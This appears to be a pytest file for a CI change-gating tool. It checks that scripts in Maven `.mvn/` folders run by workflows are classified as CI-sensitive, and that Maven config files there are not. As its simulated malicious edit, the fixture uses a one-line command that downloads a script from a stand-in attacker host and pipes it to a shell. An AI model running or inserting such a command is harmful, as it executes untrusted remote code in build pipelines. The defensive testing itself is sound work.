"""Attack 33: a script in a `.mvn/` folder that CI runs. The fifty-sixth round widened `deps.maven.settings` from
`**/.mvn/settings.xml` to `**/.mvn/*` (every file of the folder: Maven reads it), and a file the path tier calls
`deps` keeps `deps` when a workflow runs it (principle 3), so `bash .mvn/release.sh` in a workflow left the script
`deps` and `gate --tree` allowed its edit (exit 0; on main 41076f0 it was `src`, raised to ci by the CI-run check).
Maven reads only its settings there (`*.config`, `*.xml`, `*.properties`; the wrapper has its own rule): those keep
`deps`, and any other file of the folder is the catch-all's again, raised when CI runs it.

Every variant sits in a folder of its own in one repository (a workflow per variant), gated once with `--tree`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

from tests.test_classify_context import assert_path_rule

SCRIPTS = {  # the script's name in `.mvn/`: the command a step runs it with
    "release.sh": "bash {path}", "deploy.sh": "./{path}", "ci.bash": "bash {path}", "publish.py": "python3 {path}",
    "sign.rb": "ruby {path}", "stage.js": "node {path}", "gpg.pl": "perl {path}", "upload.ps1": "pwsh -File {path}",
    "setup": "sh {path}", "build.cmd": "cmd /c {path}", "env.sh": "source {path} && mvn -B deploy",
}
FOLDERS = ("", "server/")
BEFORE = "#!/bin/sh\necho ok\n"
AFTER = "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"
WORKFLOW = ("on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: {run}\n")
CASES = [(folder, name) for folder in FOLDERS for name in SCRIPTS]


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], bool]:
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    for number, (folder, name) in enumerate(CASES):
        path = f"v{number}/{folder}.mvn/{name}"
        base[f".github/workflows/v{number}.yml"] = WORKFLOW.format(run=SCRIPTS[name].format(path=path))
        base[path] = BEFORE
        head[path] = AFTER
    code, named = gated_rules(committed(tmp_path_factory.mktemp("mvn"), base, head), True)
    found = set(named.get("core.ci", []))
    return {case: f"v{number}/{case[0]}.mvn/{case[1]}" in found for number, case in enumerate(CASES)}


@each_case(("folder", "name"), CASES)
def test_a_script_ci_runs_from_a_maven_folder_is_ci(reviewed: dict[tuple[str, str], bool], folder: str,
                                                    name: str) -> None:
    assert reviewed[folder, name]  # on integ 2a5b937: deps, exit 0


@each_case("name", ["maven.config", "jvm.config", "extensions.xml", "develocity.xml",
                                  "gradle-enterprise.xml", "settings.xml", "maven-build-cache-config.xml",
                                  "maven-user.properties", "maven-system.properties"])
@each_case("folder", ["", "server/"])
def test_what_maven_reads_in_its_folder_stays_deps(folder: str, name: str) -> None:
    assert_path_rule(f"{folder}.mvn/{name}", "deps", "deps.maven.manifest" if name == "extensions.xml"
                     else "deps.maven.settings")


def test_a_maven_folder_script_nothing_runs_is_source(tmp_path: Path) -> None:
    assert_path_rule(".mvn/release.sh", "src", None)
    case = committed(tmp_path, {".github/workflows/d.yml": WORKFLOW.format(run="mvn -B verify"),
                                ".mvn/release.sh": BEFORE}, {".mvn/release.sh": AFTER})
    assert gated_rules(case, True) == (0, {})
